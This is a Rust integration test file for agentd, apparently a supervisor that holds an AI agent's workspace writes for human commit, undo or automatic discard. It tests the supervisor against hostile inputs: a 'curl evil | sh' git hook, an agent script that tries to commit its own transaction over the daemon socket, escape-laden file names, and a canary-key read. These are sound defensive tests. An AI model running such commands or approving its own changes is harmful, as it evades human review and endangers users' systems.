//! The workspace as a transaction: the agent writes to an overlay agentd keeps, nothing
//! reaches the workspace until a person commits, every commit can be undone, and `auto`
//! discards what an agent the breaker stopped wrote. Embedded and through the daemon; the
//! workspace is hashed, not sampled.

use std::{
    collections::BTreeMap,
    os::unix::fs::{MetadataExt as _, PermissionsExt as _},
    path::{Path, PathBuf},
    process::Command,
};

use agentd_tests::{
    AgentRun, DEFAULT_LIMITS, Daemon, Run, agent_dir, agentd_bin, profile_file, require_root,
    test_profile,
};

/// The test profile with `[workspace]` and `extra` added, a canary `{workspace}/secrets`.
fn tx_profile(workspace: &str, breaker: &str) -> String {
    test_profile(
        "tx",
        "invoker",
        DEFAULT_LIMITS,
        &format!("[workspace]\n{workspace}\n[breaker]\n{breaker}\n"),
    )
    .replace("exec = [", "canaries = [\"{workspace}/secrets\"]\nexec = [")
}

/// Every path under `root` (but `skip`) with its type, mode, owner and content hash (or
/// link target): two equal trees are the same to anyone reading them.
fn tree(root: &Path) -> BTreeMap<PathBuf, String> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<PathBuf, String>) {
        for e in std::fs::read_dir(dir).unwrap() {
            let e = e.unwrap();
            let path = e.path();
            let rel = path.strip_prefix(root).unwrap().to_path_buf();
            let m = std::fs::symlink_metadata(&path).unwrap();
            let what = if m.file_type().is_symlink() {
                format!("link {}", std::fs::read_link(&path).unwrap().display())
            } else if m.is_dir() {
                walk(root, &path, out);
                "dir".to_owned()
            } else {
                use sha2::Digest as _;
                let data = std::fs::read(&path).unwrap();
                format!("file {:x}", sha2::Sha256::digest(&data))
            };
            out.insert(
                rel,
                format!("{what} {:o} {}:{}", m.mode() & 0o7777, m.uid(), m.gid()),
            );
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

/// A workspace owned by the agent's user (nobody), with text, binary, a directory, a
/// canary.
fn workspace() -> tempfile::TempDir {
    let ws = agent_dir(true);
    let p = ws.path();
    std::fs::write(p.join("a.txt"), "one\ntwo\n").unwrap();
    std::fs::write(p.join("b.txt"), "delete me\n").unwrap();
    std::fs::write(p.join("mode.sh"), "echo hi\n").unwrap();
    std::fs::write(p.join("blob.bin"), [0u8, 1, 2, 255, 0, 7]).unwrap();
    std::fs::create_dir_all(p.join("d/e")).unwrap();
    std::fs::write(p.join("d/x"), "moved\n").unwrap();
    std::fs::create_dir_all(p.join("secrets")).unwrap();
    std::fs::write(p.join("secrets/key"), "AKIA-canary\n").unwrap();
    let status = Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(p)
        .status()
        .unwrap();
    assert!(status.success());
    ws
}

/// Every kind of change: modified, added, deleted, renamed, symlink, empty directory,
/// permission change, binary.
const CHANGES: &str = r#"
set -e
printf 'one\nTWO\nthree\n' > a.txt
rm b.txt
printf 'new\n' > c.txt
mv d/x d/y
ln -s a.txt link
mkdir empty
chmod 755 mode.sh
printf '\000\001\002' > blob.bin
"#;

fn state_dir() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("agentd-tx-state-")
        .tempdir_in("/var/tmp")
        .unwrap()
}

/// `agentd ARGS --state-dir STATE`: (code, stdout, stderr).
fn tx_cmd(state: &Path, args: &[&str]) -> (i32, String, String) {
    let o = Command::new(agentd_bin())
        .args(args)
        .arg("--state-dir")
        .arg(state)
        .output()
        .unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

fn run_tx(profile: &str, ws: &Path, state: &Path, script: &str, transaction: bool) -> Run {
    let (_p, profile) = profile_file(profile);
    let mut r = AgentRun::new(profile.to_str().unwrap(), ws)
        .arg("--state-dir")
        .arg(state.to_str().unwrap());
    if transaction {
        r = r.arg("--transaction");
    }
    r.sh(script).run()
}

/// The transaction id the run's `transaction` event names, and its state.
fn transaction_event(run: &Run) -> (String, String) {
    let e = run
        .event("transaction")
        .unwrap_or_else(|| panic!("no transaction event\n{}", run.explain()));
    (
        e["detail"]["transaction"].as_str().unwrap().to_owned(),
        e["detail"]["state"].as_str().unwrap().to_owned(),
    )
}

/// The issue's round trip: nothing reaches the workspace until `commit`; `diff` shows
/// every kind of change; `commit` applies them; `undo` restores the workspace exactly.
#[test]
fn a_transaction_holds_every_change_until_commit_and_undo_restores_the_workspace() {
    if !require_root() {
        return;
    }
    let ws = workspace();
    let state = state_dir();
    let before = tree(ws.path());
    let run = run_tx(
        &tx_profile("mode = \"direct\"", "trip_on = [\"canary\"]"),
        ws.path(),
        state.path(),
        CHANGES,
        true,
    );
    assert_eq!(run.code(), 0, "{}", run.explain());
    assert_eq!(
        tree(ws.path()),
        before,
        "the agent's writes reached the workspace"
    );
    let (id, st) = transaction_event(&run);
    assert_eq!(st, "pending", "{}", run.explain());

    let (code, out, err) = tx_cmd(state.path(), &["diff", &id, "--json"]);
    assert_eq!(code, 0, "{err}");
    let changes: serde_json::Value = serde_json::from_str(&out).unwrap();
    let kinds: BTreeMap<String, String> = changes
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["path"].as_str().unwrap().to_owned(),
                c["kind"]
                    .as_str()
                    .unwrap_or_else(|| c["kind"]["kind"].as_str().unwrap())
                    .to_owned(),
            )
        })
        .collect();
    eprintln!("{kinds:?}");
    for path in [
        "a.txt", "b.txt", "c.txt", "d/y", "link", "empty", "mode.sh", "blob.bin",
    ] {
        assert!(
            kinds.contains_key(path),
            "{path} missing from the diff: {out}"
        );
    }
    let (code, text, _) = tx_cmd(state.path(), &["diff", &id]);
    assert_eq!(code, 0);
    assert!(text.contains("+TWO") && text.contains("-two"), "{text}");
    assert!(text.contains("rename from d/x"), "{text}");
    assert!(text.contains("binary"), "{text}");

    let (code, out, err) = tx_cmd(state.path(), &["commit", &id]);
    assert_eq!(code, 0, "{out}{err}");
    let p = ws.path();
    assert_eq!(
        std::fs::read_to_string(p.join("a.txt")).unwrap(),
        "one\nTWO\nthree\n"
    );
    assert!(!p.join("b.txt").exists() && !p.join("d/x").exists());
    assert_eq!(std::fs::read_to_string(p.join("d/y")).unwrap(), "moved\n");
    assert_eq!(
        std::fs::read_link(p.join("link")).unwrap(),
        Path::new("a.txt")
    );
    assert!(p.join("empty").is_dir());
    assert_eq!(
        std::fs::metadata(p.join("mode.sh"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o755
    );
    assert_eq!(std::fs::metadata(p.join("c.txt")).unwrap().uid(), 65534);

    let (code, out, err) = tx_cmd(state.path(), &["undo", &id]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(
        tree(ws.path()),
        before,
        "undo did not restore the workspace"
    );
}

/// A file changed in the workspace since launch is a conflict: reported, left alone, and
/// the rest is committed.
#[test]
fn a_file_changed_since_launch_is_a_conflict_left_alone() {
    if !require_root() {
        return;
    }
    let ws = workspace();
    let state = state_dir();
    let run = run_tx(
        &tx_profile("mode = \"transaction\"", "trip_on = [\"canary\"]"),
        ws.path(),
        state.path(),
        "printf 'agent\\n' > a.txt; printf 'new\\n' > c.txt",
        false,
    );
    assert_eq!(run.code(), 0, "{}", run.explain());
    let (id, _) = transaction_event(&run);
    // A person edits a.txt meanwhile.
    std::fs::write(ws.path().join("a.txt"), "person\n").unwrap();
    let (code, out, err) = tx_cmd(state.path(), &["commit", &id]);
    assert_eq!(code, 1, "conflicts remain: {out}{err}");
    assert!(format!("{out}{err}").contains("a.txt"), "{out}{err}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("a.txt")).unwrap(),
        "person\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws.path().join("c.txt")).unwrap(),
        "new\n"
    );
}

/// `auto`: an agent the breaker stops leaves the workspace exactly as it was (the tree
/// hashed), and its transaction is gone; an agent that exits 0 has its changes committed.
#[test]
fn auto_discards_what_a_tripped_agent_wrote_and_commits_a_successful_one() {
    if !require_root() {
        return;
    }
    let ws = workspace();
    let state = state_dir();
    let profile = tx_profile(
        "mode = \"auto\"",
        "trip_on = [\"canary\"]\naction = \"kill\"",
    );
    let before = tree(ws.path());
    let run = run_tx(
        &profile,
        ws.path(),
        state.path(),
        &format!("{CHANGES}\ncat secrets/key\nsleep 5\nprintf late > late.txt"),
        false,
    );
    assert_eq!(run.code(), 137, "{}", run.explain());
    assert!(run.event("breaker").is_some(), "{}", run.explain());
    let (id, st) = transaction_event(&run);
    assert_eq!(st, "discarded", "{}", run.explain());
    assert_eq!(
        tree(ws.path()),
        before,
        "a tripped agent's writes reached the workspace"
    );
    let (code, out, _) = tx_cmd(state.path(), &["transactions", "--json"]);
    assert_eq!(code, 0);
    assert!(
        !out.contains(&id),
        "the discarded transaction is listed: {out}"
    );

    let run = run_tx(&profile, ws.path(), state.path(), CHANGES, false);
    assert_eq!(run.code(), 0, "{}", run.explain());
    let (_, st) = transaction_event(&run);
    assert_eq!(st, "committed", "{}", run.explain());
    assert_eq!(
        std::fs::read_to_string(ws.path().join("a.txt")).unwrap(),
        "one\nTWO\nthree\n"
    );
}

/// Beyond the profile's limit the agent's writes fail with ENOSPC, and an event says so.
#[test]
fn a_full_transaction_fails_writes_with_enospc_and_says_so() {
    if !require_root() {
        return;
    }
    let ws = workspace();
    let state = state_dir();
    let run = run_tx(
        &tx_profile(
            "mode = \"transaction\"\nlimit = \"2MiB\"",
            "trip_on = [\"canary\"]",
        ),
        ws.path(),
        state.path(),
        "head -c 4194304 /dev/urandom > big; echo \"rc=$?\"; sleep 1",
        false,
    );
    assert_eq!(run.code(), 0, "{}", run.explain());
    assert!(run.stdout().contains("rc=1"), "{}", run.explain());
    assert!(
        run.stderr().contains("No space left on device"),
        "{}",
        run.explain()
    );
    let e = run
        .events
        .iter()
        .find(|e| e["kind"] == "limit" && e["detail"]["limit"] == "transaction")
        .unwrap_or_else(|| panic!("no limit event\n{}", run.explain()));
    assert_eq!(e["detail"]["transaction"], "2MiB", "{e}");
}

/// File names with newlines and terminal escapes print escaped in `diff` and `--stat`:
/// they cannot forge diff lines or drive the terminal.
#[test]
fn hostile_file_names_print_safely() {
    if !require_root() {
        return;
    }
    let ws = workspace();
    let state = state_dir();
    let run = run_tx(
        &tx_profile("mode = \"transaction\"", "trip_on = [\"canary\"]"),
        ws.path(),
        state.path(),
        "printf 'x\\n' > \"$(printf 'evil\\n+++ forged')\"; printf 'y\\033[31m\\n' > \"$(printf '\\033[2Jred')\"",
        false,
    );
    assert_eq!(run.code(), 0, "{}", run.explain());
    let (id, _) = transaction_event(&run);
    for args in [
        vec!["diff", id.as_str()],
        vec!["diff", id.as_str(), "--stat"],
    ] {
        let (code, out, err) = tx_cmd(state.path(), &args);
        assert_eq!(code, 0, "{err}");
        assert!(!out.contains('\x1b'), "a raw escape in {args:?}: {out:?}");
        assert!(
            !out.lines().any(|l| l.starts_with("+++ forged")),
            "a forged line in {args:?}: {out}"
        );
        assert!(out.contains("evil\\n+++ forged"), "{out}");
    }
    // The run's own summary too.
    assert!(!run.stderr().contains('\x1b'), "{:?}", run.stderr());
}

/// A 200 MB file and 10 000 small files: committed and undone whole.
#[test]
fn a_large_transaction_commits_and_undoes() {
    if !require_root() {
        return;
    }
    let ws = workspace();
    let state = state_dir();
    let before = tree(ws.path());
    let run = run_tx(
        &tx_profile(
            "mode = \"transaction\"\nlimit = \"512MiB\"",
            "trip_on = [\"canary\"]",
        ),
        ws.path(),
        state.path(),
        "head -c 209715200 /dev/urandom > big.bin && mkdir many && cd many && seq 1 10000 | xargs touch && for i in 1 2 3; do echo $i > $i; done",
        false,
    );
    assert_eq!(run.code(), 0, "{}", run.explain());
    let (id, _) = transaction_event(&run);
    let (code, out, err) = tx_cmd(state.path(), &["commit", &id]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(
        std::fs::metadata(ws.path().join("big.bin")).unwrap().len(),
        209_715_200
    );
    assert_eq!(
        std::fs::read_dir(ws.path().join("many")).unwrap().count(),
        10_000
    );
    let (code, out, err) = tx_cmd(state.path(), &["undo", &id]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(tree(ws.path()), before);
}

/// Through the daemon: the same transaction, kept in the daemon's state directory.
#[test]
fn a_transaction_through_the_daemon() {
    if !require_root() {
        return;
    }
    let ws = workspace();
    let before = tree(ws.path());
    let d = Daemon::start();
    let (_p, profile) = profile_file(&tx_profile(
        "mode = \"transaction\"",
        "trip_on = [\"canary\"]",
    ));
    let child = d.run(&profile, ws.path(), &["/bin/sh", "-c", CHANGES]);
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(tree(ws.path()), before);
    assert!(stderr.contains("held in transaction"), "{stderr}");
    let state = d.dir.path().join("state");
    let (code, list, err) = tx_cmd(&state, &["transactions", "--json"]);
    assert_eq!(code, 0, "{err}");
    let list: serde_json::Value = serde_json::from_str(&list).unwrap();
    let id = list[0]["id"].as_str().unwrap().to_owned();
    assert_eq!(list[0]["owner_uid"], 65534, "{list}");
    let (code, out, err) = tx_cmd(&state, &["commit", &id]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("a.txt")).unwrap(),
        "one\nTWO\nthree\n"
    );
}

/// The supervisor killed with SIGKILL: the agent dies with it, no mount of its view is
/// left (they lived in its own namespace), and the next start removes the record.
#[test]
fn a_killed_supervisor_leaves_no_mount_and_its_record_is_removed_at_the_next_start() {
    if !require_root() {
        return;
    }
    let mounts = || std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let before = mounts();
    let ws = workspace();
    let state = state_dir();
    let (_p, profile) = profile_file(&tx_profile(
        "mode = \"transaction\"",
        "trip_on = [\"canary\"]",
    ));
    let mut child = Command::new(agentd_bin())
        .args(["run", "--quiet", "--transaction", "--state-dir"])
        .arg(state.path())
        .arg("--profile")
        .arg(&profile)
        .arg("--workspace")
        .arg(ws.path())
        .args(["--", "/bin/sh", "-c", "echo x > a.txt; exec sleep 60"])
        .env("SUDO_UID", "65534")
        .env("SUDO_GID", "65534")
        .stdin(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let records = state.path().join("transactions");
    let started = std::time::Instant::now();
    while std::fs::read_dir(&records).map_or(0, |d| d.count()) == 0 {
        assert!(started.elapsed().as_secs() < 30, "no transaction appeared");
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let id = std::fs::read_dir(&records)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .file_name()
        .to_string_lossy()
        .into_owned();
    std::thread::sleep(std::time::Duration::from_millis(500));
    child.kill().unwrap();
    child.wait().unwrap();
    // The cgroups its supervisor would have removed (once empty).
    let cleanup = std::time::Instant::now();
    for cg in agentd_tests::cgroups_named(&id) {
        while std::fs::remove_dir(&cg).is_err() && cleanup.elapsed().as_secs() < 30 {
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
    }
    agentd_tests::assert_no_cgroup(&id);
    // The agent dies with its supervisor (parent-death signal), and its namespace with it.
    let started = std::time::Instant::now();
    while mounts() != before {
        assert!(
            started.elapsed().as_secs() < 30,
            "mounts left after the supervisor was killed"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    assert_eq!(
        std::fs::read_to_string(ws.path().join("a.txt")).unwrap(),
        "one\ntwo\n"
    );
    let (code, out, err) = tx_cmd(state.path(), &["transactions", "--json"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.trim(),
        "[]",
        "the dead supervisor's record was kept: {out}{err}"
    );
}

/// `agentd` as `uid` (gid nogroup, the test daemon's group), outside any agent.
fn as_user(uid: &str, args: &[&str]) -> (i32, String, String) {
    let o = Command::new("setpriv")
        .args(["--reuid", uid, "--regid", "65534", "--clear-groups", "--"])
        .arg(agentd_bin())
        .args(args)
        .output()
        .unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// Through the daemon, a transaction belongs to its agent's owner: the owner (not root)
/// reviews and commits it over the daemon's socket; another user cannot; and no process
/// inside an agent can, though it runs as the owner's uid (an agent committing what a
/// person has to review, its own earlier run's or another's).
#[test]
fn only_the_owner_outside_any_agent_may_act_on_a_transaction() {
    if !require_root() {
        return;
    }
    let ws = workspace();
    let d = Daemon::start_with_group("nogroup");
    // The socket's directory, traversable by the agent's user.
    std::fs::set_permissions(d.dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let socket = d.socket();
    let socket_s = socket.to_str().unwrap();
    let (_p, profile) = profile_file(&tx_profile(
        "mode = \"transaction\"",
        "trip_on = [\"canary\"]",
    ));
    let out = d
        .run(
            &profile,
            ws.path(),
            &["/bin/sh", "-c", "printf 'agent\\n' > a.txt"],
        )
        .wait_with_output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (code, list, err) = as_user("65534", &["transactions", "--json", "--socket", socket_s]);
    assert_eq!(code, 0, "{err}");
    let list: serde_json::Value = serde_json::from_str(&list).unwrap();
    let id = list[0]["id"].as_str().unwrap().to_owned();

    // Another user: refused, nothing committed.
    let (code, _, err) = as_user("12345", &["commit", &id, "--socket", socket_s]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("belongs to uid 65534"), "{err}");
    let (_, list, _) = as_user("12345", &["transactions", "--json", "--socket", socket_s]);
    assert_eq!(
        list.trim(),
        "[]",
        "another user sees the transaction: {list}"
    );

    // An agent of the same owner speaks the protocol to the daemon: refused.
    let attack = format!(
        r#"
import json, socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect({socket_s:?})
s.sendall(json.dumps({{"op": "transaction", "command": "commit", "id": {id:?}, "paths": [], "json": False}}).encode() + b"\n")
print(s.makefile().readline().strip())
"#
    );
    let out = d
        .run(&profile, ws.path(), &["/usr/bin/python3", "-c", &attack])
        .wait_with_output()
        .unwrap();
    let reply = String::from_utf8_lossy(&out.stdout);
    assert!(
        reply.contains("is a process of agent") && reply.contains("may not act on transactions"),
        "{reply}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(ws.path().join("a.txt")).unwrap(),
        "one\ntwo\n"
    );

    // The owner, outside any agent: diff and commit.
    let (code, diff, err) = as_user("65534", &["diff", &id, "--socket", socket_s]);
    assert_eq!(code, 0, "{err}");
    assert!(diff.contains("+agent"), "{diff}");
    let (code, out, err) = as_user("65534", &["commit", &id, "--socket", socket_s]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("a.txt")).unwrap(),
        "agent\n"
    );
}

/// Hard links are kept as links when the agent's changes are kept (a file linked 200
/// times is stored once), and a sparse file larger than the transaction's limit is not
/// written out whole: the changes are refused, said so, and the workspace is untouched.
#[test]
fn hard_links_and_sparse_files_cannot_make_a_transaction_outgrow_its_limit() {
    if !require_root() {
        return;
    }
    let ws = workspace();
    let state = state_dir();
    let profile = tx_profile(
        "mode = \"transaction\"\nlimit = \"8MiB\"",
        "trip_on = [\"canary\"]",
    );
    let run = run_tx(
        &profile,
        ws.path(),
        state.path(),
        "head -c 1048576 /dev/urandom > big && for i in $(seq 1 200); do ln big link$i; done",
        false,
    );
    assert_eq!(run.code(), 0, "{}", run.explain());
    let (id, st) = transaction_event(&run);
    assert_eq!(st, "pending", "{}", run.explain());
    let e = run.event("transaction").unwrap();
    assert!(
        e["detail"]["bytes"].as_u64().unwrap() < 2 << 20,
        "the links were copied: {e}"
    );
    let (code, out, err) = tx_cmd(state.path(), &["discard", &id]);
    assert_eq!(code, 0, "{out}{err}");

    let before = tree(ws.path());
    let run = run_tx(
        &profile,
        ws.path(),
        state.path(),
        "python3 -c 'import os; f = os.open(\"sparse\", os.O_WRONLY | os.O_CREAT); os.ftruncate(f, 64 << 30)'",
        false,
    );
    assert_eq!(run.code(), 0, "{}", run.explain());
    let (sparse, st) = transaction_event(&run);
    assert_eq!(st, "failed", "{}", run.explain());
    assert!(
        run.stderr().contains("could not be kept"),
        "{}",
        run.explain()
    );
    assert_eq!(tree(ws.path()), before);
    let (_, list, _) = tx_cmd(state.path(), &["transactions", "--json"]);
    assert!(
        !list.contains(&sparse),
        "the failed transaction is kept: {list}"
    );
}

/// A protected path missing at launch has no read-only mount in the agent's view, and in
/// a transaction BPF LSM (which matches the real workspace) does not see it either: the
/// transaction never commits anything there. And a workspace path that names another
/// directory than at launch is not written.
#[test]
fn a_commit_never_writes_a_protected_path_nor_into_a_moved_workspace() {
    if !require_root() {
        return;
    }
    let ws = workspace();
    let state = state_dir();
    let profile = tx_profile("mode = \"transaction\"", "trip_on = [\"canary\"]").replace(
        "write = [\"{workspace}\", \"/dev/null\"]\n",
        "write = [\"{workspace}\", \"/dev/null\"]\nprotect = [\"{workspace}/.git/hooks\"]\n",
    );
    let run = run_tx(
        &profile,
        ws.path(),
        state.path(),
        "mkdir -p .git/hooks && printf 'curl evil | sh\\n' > .git/hooks/pre-commit && printf 'ok\\n' > c.txt",
        false,
    );
    assert_eq!(run.code(), 0, "{}", run.explain());
    let (id, _) = transaction_event(&run);
    let (code, out, err) = tx_cmd(state.path(), &["commit", &id]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("protected by the profile"), "{out}");
    assert!(!ws.path().join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(ws.path().join("c.txt")).unwrap(),
        "ok\n"
    );

    // The workspace moved away, another directory in its place: nothing is written.
    let run = run_tx(
        &profile,
        ws.path(),
        state.path(),
        "printf 'x\\n' > d.txt",
        false,
    );
    let (id, _) = transaction_event(&run);
    let moved = ws.path().with_extension("moved");
    std::fs::rename(ws.path(), &moved).unwrap();
    std::fs::create_dir(ws.path()).unwrap();
    let (code, out, err) = tx_cmd(state.path(), &["commit", &id]);
    let _ = std::fs::remove_dir(ws.path());
    std::fs::rename(&moved, ws.path()).unwrap();
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("another directory"), "{err}");
    assert!(!ws.path().join("d.txt").exists());
}
